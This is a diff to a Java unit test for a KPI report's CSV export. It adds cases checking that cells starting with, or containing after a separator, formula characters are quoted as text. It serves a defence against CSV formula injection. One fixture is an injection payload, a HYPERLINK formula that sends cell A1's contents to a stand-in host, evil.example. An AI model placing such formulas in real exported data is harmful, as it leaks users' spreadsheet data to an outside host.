@@ -20,14 +20,17 @@ class KpiCsvTest {
     }
 
     @Test
-    void aNameAFormulaWouldStartWith_isWrittenAsText_numbersStayNumbers() {
+    void aNameAFormulaWouldStartWith_orStartAfterASeparator_isWrittenAsText_numbersStayNumbers() {
         KpiReport report = new KpiReport("closed-loop", Map.of(), Map.of(), List.of("campaign", "leads", "rate"), List.of(
                 row("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", 3L, 0.5),
                 row("@SUM(1+1)", 1L, -0.25),
                 row("+49 30 1234567", 2L, null),
                 row("-spring", 0L, 0.0),
                 row("\tindented", 0L, 0.0),
-                row("autumn = webinar", 4L, 1.0)));
+                row("autumn = webinar", 4L, 1.0),
+                row("spring;=1+1", 1L, 0.0),
+                row("summer, @SUM(A1)", 1L, 0.0),
+                row("10% off; free", 1L, 0.0)));
 
         assertThat(KpiController.csv(report).lines().toList()).containsExactly(
                 "campaign,leads,rate",
@@ -36,6 +39,9 @@ class KpiCsvTest {
                 "'+49 30 1234567,2,",
                 "'-spring,0,0.0",
                 "'\tindented,0,0.0",
-                "autumn = webinar,4,1.0");
+                "autumn = webinar,4,1.0",
+                "'spring;=1+1,1,0.0",
+                "\"'summer, @SUM(A1)\",1,0.0",
+                "10% off; free,1,0.0");
     }
 }
